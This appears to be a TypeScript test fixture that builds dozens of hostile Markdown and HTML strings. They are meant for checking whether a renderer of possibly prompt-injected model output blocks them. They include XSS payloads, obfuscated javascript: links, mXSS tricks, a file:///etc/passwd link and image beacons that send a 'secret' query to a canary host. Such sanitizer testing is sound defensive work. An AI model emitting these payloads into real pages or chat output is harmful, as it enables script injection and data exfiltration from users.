/**
 * Markdown that wants to be a script, a request or another page: what a model may say that was talked
 * into it, or that reads from a page of somebody else.
 *
 * @module
 */

/** Every way in that the suite knows. Each calls `canary` or sets `pwned` where it works. */
export function hostileMarkdown(canary: string): string[] {
  const bare = canary.replace(/^http:/, "");
  const data = `data:text/html,<script>opener.pwned=1</script>`;
  return [
    // Markup
    `<script>pwned=1</script>`,
    `<script src="${canary}/a.js"></script>`,
    `<img src="${canary}/img.png" onerror="pwned=1">`,
    `<img src=x onerror=pwned=1>`,
    `<svg onload="pwned=1"><script>pwned=1</script><image href="${canary}/svg.png"/></svg>`,
    `<svg><use href="${canary}/sprite.svg#a"/></svg>`,
    `<iframe src="${canary}/frame"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<object data="${canary}/object"></object><embed src="${canary}/embed">`,
    `<link rel="stylesheet" href="${canary}/style.css"><link rel="preload" href="${canary}/p" as="script">`,
    `<style>@import "${canary}/import.css"; body { background: url(${canary}/bg.png) }</style>`,
    `<div style="background:url(${canary}/div.png)" onmouseover="pwned=1">over</div>`,
    `<base href="${canary}/"><meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<form action="${canary}/form"><input name=a autofocus onfocus=pwned=1><button>Go</button></form>`,
    `<video src="${canary}/v.mp4" poster="${canary}/poster.png" autoplay></video><audio src="${canary}/a.mp3" autoplay></audio>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">`,
    `<details open ontoggle="pwned=1"><summary>x</summary></details>`,
    `<a href="javascript:pwned=1" id="document" name="cookie">clobber</a>`,
    `<!--><img src=x onerror=pwned=1>-->`,
    `<template><img src=x onerror=pwned=1></template><noscript><img src="${canary}/n.png"></noscript>`,
    // Markdown that asks for something
    `![beacon](${canary}/beacon.png?q=secret)`,
    `![beacon][ref]\n\n[ref]: ${canary}/ref.png "title"`,
    `![nested ![inner](${canary}/inner.png)](${canary}/outer.png)`,
    `[![linked](${canary}/linked.png)](${canary}/link)`,
    `![x](${bare}/protocol-relative.png)`,
    `![svg](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>)`,
    // Links that run
    `[click](javascript:pwned=1)`,
    `[click](JaVaScRiPt:pwned=1)`,
    `[click](java&#115;cript:pwned=1)`,
    `[click](&#106;avascript&colon;pwned=1)`,
    `[click](java\tscript:pwned=1)`,
    `[click]( javascript:pwned=1 )`,
    `[click](<javascript:pwned=1>)`,
    `[click](\u0001javascript:pwned=1)`,
    `[click](vbscript:pwned)`,
    `[click](${data})`,
    `[click](data:text/html;base64,${btoa("<script>opener.pwned=1</script>")})`,
    `[click](blob:${canary}/blob)`,
    `[click](file:///etc/passwd)`,
    `[click](view-source:javascript:pwned=1)`,
    `[click][bad]\n\n[bad]: javascript:pwned=1`,
    `<javascript:pwned=1>`,
    `[ok](https://example.com/"onmouseover="pwned=1)`,
    `[ok](https://example.com 'x" onmouseover="pwned=1')`,
    // Where other renderers let something through
    `\`\`\`<img src=x onerror=pwned=1>\n</code></pre><script>pwned=1</script>\n\`\`\``,
    `\`\`\`" onload="pwned=1\n<script>pwned=1</script>\n\`\`\``,
    `\`<img src=x onerror=pwned=1>\``,
    `| <img src=x onerror=pwned=1> | [x](javascript:pwned=1) |\n| --- | --- |\n| ![](${canary}/cell.png) | <script>pwned=1</script> |`,
    `# <img src=x onerror=pwned=1>\n\n> <script>pwned=1</script>\n\n- [ ] <svg onload=pwned=1>`,
    `[a]: ${canary} "<img src=x onerror=pwned=1>"\n\n[a]`,
    `&lt;img src=x onerror=pwned=1&gt; &#x3c;script&#x3e;pwned=1&#x3c;/script&#x3e;`,
    `<a <a href="javascript:pwned=1">x`,
    `[x](#top) [y](/api/threads) [z](//${bare.slice(2)}/z)`,
    `\u202Etxt.exe\u202C <img src="${canary}/late.png"`,
  ];
}

/** At least so many characters of it. */
export function muchHostileMarkdown(canary: string, length: number): string {
  const once = `${hostileMarkdown(canary).join("\n\n")}\n\n`;
  return once.repeat(Math.ceil(length / once.length));
}
